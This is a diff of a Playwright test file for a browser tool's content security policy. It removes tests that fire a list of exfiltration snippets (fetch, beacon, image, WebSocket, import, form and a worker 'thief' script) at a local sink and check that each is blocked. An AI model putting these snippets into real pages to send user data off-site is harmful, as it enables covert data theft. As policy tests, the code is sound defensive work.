@@ -1,10 +1,6 @@
-"""What is typed stays in the tab. Not promised: tried."""
+"""What is typed stays in the tab. Not promised: tried. The ways out, each: test_layers.py."""
 
-import shutil
-import threading
-from collections.abc import Callable, Iterator
 from pathlib import Path
-from typing import Any
 
 import pytest
 from playwright.sync_api import Page, expect
@@ -12,25 +8,8 @@ from playwright.sync_api import Page, expect
 from tests.browser.conftest import TOOL
 from tests.browser.forms import FORMS
 from tools.build import headers
-from tools.build.server import make_server
 
 MARK = "1987-06-05"  # a day that stands nowhere on the site
-
-
-@pytest.fixture
-def serve() -> Iterator[Callable[[Path], str]]:
-    """Serves a folder; its address."""
-    servers = []
-
-    def start(folder: Path) -> str:
-        server = make_server(folder, 0)
-        servers.append(server)
-        threading.Thread(target=server.serve_forever, daemon=True).start()
-        return f"http://127.0.0.1:{server.server_port}/"
-
-    yield start
-    for server in servers:
-        server.shutdown()
 
 
 @pytest.mark.core
@@ -82,101 +61,6 @@ def test_nothing_foreign_is_ever_loaded(page: Page, base_url: str, site: Path) -
     assert len(spoken) <= 1
     assert asked
     assert {url for url in asked if not url.startswith((base_url, "blob:"))} == set()
-
-
-LEAKS = {
-    "fetch": "fetch(SINK + 'fetch', {mode: 'no-cors'})",
-    "xhr": "new Promise(r => { const x = new XMLHttpRequest(); x.onloadend = r; x.open('GET', SINK + 'xhr'); x.send(); })",
-    "beacon": "navigator.sendBeacon(SINK + 'beacon', 'x')",
-    "image": "new Promise(r => { const i = new Image(); i.onload = i.onerror = r; i.src = SINK + 'image'; })",
-    "websocket": "new Promise(r => { const w = new WebSocket(SINK.replace('http', 'ws') + 'ws'); w.onclose = w.onerror = r; })",
-    "event source": "new Promise(r => { const e = new EventSource(SINK + 'es'); e.onerror = () => { e.close(); r(); }; })",
-    "import": "import(SINK + 'module.mjs')",
-    "style": "new Promise(r => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = l.onerror = r; l.href = SINK + 'style'; document.head.append(l); })",
-    "form": "new Promise(r => { const f = document.createElement('form'); f.action = SINK + 'form'; f.method = 'post'; document.body.append(f); f.submit(); setTimeout(r, 200); })",
-}
-
-
-@pytest.mark.core
-@pytest.mark.parametrize("way", LEAKS)
-def test_the_page_cannot_send_to_another_origin(
-    page: Page, base_url: str, sink: tuple[str, list[str]], way: str
-) -> None:
-    address, heard = sink
-    page.goto(base_url + TOOL)
-    page.evaluate(
-        f"async (SINK) => {{ try {{ await ({LEAKS[way]}); }} catch {{}} }}",
-        address,
-    )
-    page.wait_for_timeout(150)
-    assert heard == []
-
-
-# What a worker tries; its own word of how it went comes back as a message.
-THIEF = """
-const tries = {
-  fetch: () => fetch(SINK + 'fetch', {mode: 'no-cors'}),
-  import: () => import(SINK + 'module.mjs'),
-  socket: () => new Promise((r, no) => { const w = new WebSocket(SINK.replace('http', 'ws')); w.onopen = r; w.onerror = no; }),
-  code: () => new Function('return 1')(),
-};
-const told = {};
-for (const [name, attempt] of Object.entries(tries)) {
-  try { await attempt(); told[name] = 'done'; } catch (error) { told[name] = 'refused'; }
-}
-postMessage(told);
-"""
-
-
-@pytest.mark.parametrize("layer", ["header and meta", "meta alone"])
-def test_a_worker_started_as_ours_is_bound_by_the_policy(
-    new_context: Any,
-    base_url: str,
-    site: Path,
-    tmp_path: Path,
-    serve: Callable[[Path], str],
-    sink: tuple[str, list[str]],
-    layer: str,
-) -> None:
-    address, heard = sink
-    page = new_context().new_page()
-    if layer == "meta alone":  # a server that sends no headers of ours
-        base_url = serve(copy_without_headers(site, tmp_path))
-    page.goto(base_url + TOOL)
-    told = page.evaluate(
-        """([code, sink]) => new Promise((resolve) => {
-            const source = new Blob([`const SINK = ${JSON.stringify(sink)};` + code], {type: "text/javascript"});
-            const worker = new Worker(URL.createObjectURL(source), {type: "module"});
-            worker.onmessage = ({data}) => resolve(data);
-        })""",
-        [THIEF, address],
-    )
-    assert set(told.values()) == {"refused"}, told
-    assert heard == []
-
-
-def copy_without_headers(site: Path, folder: Path) -> Path:
-    copy = folder / "site"
-    shutil.copytree(site, copy, ignore=shutil.ignore_patterns("runtime"))
-    (copy / "_headers").unlink()
-    return copy
-
-
-def test_the_sink_would_hear(
-    page: Page, tmp_path: Path, serve: Callable[[Path], str], sink: tuple[str, list[str]]
-) -> None:
-    """The tests above can fail: from a page without a policy the same attempts get through."""
-    address, heard = sink
-    (tmp_path / "index.html").write_text("<!doctype html><title>plain</title>", "utf-8")
-    page.goto(serve(tmp_path))
-    for way in LEAKS:
-        if way != "form":  # would leave the page
-            page.evaluate(
-                f"async (SINK) => {{ try {{ await ({LEAKS[way]}); }} catch {{}} }}", address
-            )
-    page.wait_for_timeout(150)
-    ways = {"/fetch", "/xhr", "/beacon", "/image", "/ws", "/es", "/module.mjs", "/style"}
-    assert ways <= set(heard)
 
 
 WAYS_OUT = [
